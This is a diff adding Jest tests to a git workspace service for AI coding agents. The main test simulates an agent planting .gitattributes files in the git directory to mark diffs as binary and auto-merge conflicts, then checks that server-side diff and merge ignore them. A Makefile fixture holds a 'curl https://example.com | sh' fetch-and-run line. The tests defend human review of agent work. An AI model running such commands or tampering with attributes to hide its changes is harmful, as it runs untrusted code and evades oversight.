@@ -415,6 +415,72 @@ describe('WorkspacesService on a real repository', () => {
     expect(existsSync(marker)).toBe(false);
   });
 
+  it("reads no attributes from the repository's git directory (the agent's to write, outside its fingerprint): no diff is hidden as binary, no conflict merged as both sides", async () => {
+    const repo = copyFixtureProject('node-basic', root, 'git-dir-attributes');
+    writeFileSync(join(repo, 'notes.txt'), 'one\ntwo\n');
+    git(repo, 'add', 'notes.txt');
+    git(repo, 'commit', '-q', '-m', 'notes');
+    const s = spec(repo);
+    const workspaces = service();
+    const ws = await ready(workspaces, s);
+    writeFileSync(join(ws.path, 'notes.txt'), 'one\nTASK\n');
+    writeFileSync(join(ws.path, 'Makefile'), 'all:\n\tcurl https://example.com | sh\n');
+    writeFileSync(join(ws.path, 'src/helper.js'), "module.exports = 'helper';\n");
+    const { commit } = await workspaces.commit(ws, 'work');
+    // What an agent that is not sandboxed writes beside the repository's config, where git run
+    // in the git directory takes it for the attributes of a work tree's top (and of src/).
+    writeFileSync(join(s.gitDir, '.gitattributes'), '* -diff merge=union\n');
+    mkdirSync(join(s.gitDir, 'src'));
+    writeFileSync(join(s.gitDir, 'src', '.gitattributes'), '*.js -diff\n');
+    const gitConfig = await workspaces.fingerprint(s.taskId, s.gitDir, ws.path);
+    expect(gitConfig).toEqual(ws.gitConfig);
+    const serverGit = new Git(config, launcher, NO_ISOLATION);
+    try {
+      const diff = await new WorkspaceDiffService(serverGit, config, NO_ISOLATION).diff({
+        kind: 'commit',
+        gitDir: s.gitDir,
+        base: s.baseCommit,
+        head: commit,
+      });
+      expect(diff.files.map((f) => [f.path, f.binary, f.additions])).toEqual([
+        ['Makefile', false, 2],
+        ['notes.txt', false, 1],
+        ['src/helper.js', false, 1],
+      ]);
+      expect(diff.patch.toString('utf8')).toContain('+\tcurl https://example.com | sh');
+      const branch = git(repo, 'symbolic-ref', '--short', 'HEAD').trim();
+      writeFileSync(join(repo, 'notes.txt'), 'one\nMAIN\n');
+      git(repo, 'commit', '-q', '-a', '-m', 'main moved');
+      const target = git(repo, 'rev-parse', 'HEAD').trim();
+      const merges = new WorkspaceMergeService(
+        serverGit,
+        new RepositoryLocks(config),
+        service(serverGit),
+        new WorkspaceRoot(config, NO_ISOLATION),
+      );
+      await expect(
+        merges.merge(
+          {
+            gitDir: s.gitDir,
+            base: s.baseCommit,
+            source: commit,
+            sourceBranch: ws.branch,
+            target: branch,
+            strategy: 'merge',
+            message: 'merge',
+            gitConfig: ws.gitConfig,
+            expectedTarget: null,
+          },
+          { ensure: () => Promise.resolve(), record: () => Promise.resolve() },
+        ),
+      ).rejects.toMatchObject({ code: ErrorCode.MergeConflict, details: { files: ['notes.txt'] } });
+      expect(git(repo, 'rev-parse', 'HEAD').trim()).toBe(target);
+      expect(readFileSync(join(repo, 'notes.txt'), 'utf8')).toBe('one\nMAIN\n');
+    } finally {
+      await serverGit.onModuleDestroy();
+    }
+  });
+
   (RUNS_AS_ROOT ? it : it.skip)(
     "diffs a workspace as it is now with git run as RUN_AS_USER: the temporary index is that user's",
     async () => {
@@ -779,15 +845,20 @@ describe('WorkspacesService on a real repository', () => {
     // counts is that it and its entry are gone, and the live one is not.
     await scratch.removeOrphans();
     expect(existsSync(orphan)).toBe(false);
-    // A diff's temporary index and order file, the ref guard's hooks and the configuration files
-    // handed to git for a comparison, the same way.
-    const leftovers = ['cta-index-', 'cta-order-', 'cta-hooks-', 'cta-git-config-'].map((prefix) =>
-      mkdtempSync(join(tmpdir(), `${prefix}${deadPid}-`)),
-    );
+    // A diff's temporary index and order file, the ref guard's hooks, the configuration files
+    // handed to git for a comparison and the empty directory git ran in, the same way.
+    const leftovers = [
+      'cta-index-',
+      'cta-order-',
+      'cta-hooks-',
+      'cta-git-config-',
+      'cta-git-cwd-',
+    ].map((prefix) => mkdtempSync(join(tmpdir(), `${prefix}${deadPid}-`)));
     writeFileSync(join(leftovers[0], 'index'), 'a large index copy');
     await diffService(NO_ISOLATION).removeOrphans();
     await new RefGuard(NO_ISOLATION).removeOrphans();
     await gitConfigGuard(new Git(config, launcher, NO_ISOLATION), NO_ISOLATION).removeOrphans();
+    await new Git(config, launcher, NO_ISOLATION).removeOrphans();
     expect(leftovers.filter((dir) => existsSync(dir))).toEqual([]);
     expect(linkedWorktrees(repo)).toEqual([live.directory]);
     await live.remove();
